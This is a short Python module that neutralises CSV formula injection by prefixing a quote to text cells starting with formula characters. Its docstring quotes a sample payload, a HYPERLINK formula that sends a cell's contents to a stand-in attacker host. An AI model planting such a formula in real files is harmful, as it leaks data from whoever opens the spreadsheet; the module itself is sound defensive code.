"""Files people open in spreadsheets: CSV cells that cannot run as formulas.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula: ``=HYPERLINK("http://attacker/?"&A1, "open")`` in a username, a
subject or a column name would run in the auditor's spreadsheet. Such text cells get a leading
``'`` (OWASP's advice), which spreadsheets show as text; numbers are written as they are.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """``value``, with a ``'`` in front when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value

